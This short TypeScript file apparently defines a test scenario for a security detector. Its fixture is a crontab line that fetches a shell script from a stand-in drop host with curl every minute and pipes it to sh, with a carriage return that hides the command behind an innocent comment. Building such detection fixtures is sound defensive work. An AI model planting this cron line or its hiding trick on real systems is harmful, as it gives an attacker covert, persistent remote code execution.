import { scenario } from '../scenario.ts';
import { dropHost, underCron } from '../words.ts';

export default scenario({
  what: 'a cron line with a carriage return before a remark',
  report: 'Hides from cat; fetched from a public bare address without TLS.',
  ...underCron('/tmp/.d/xm', [`* * * * * curl -fsSL http://${dropHost}/i.sh|sh;\r# nothing to see here`]),
});
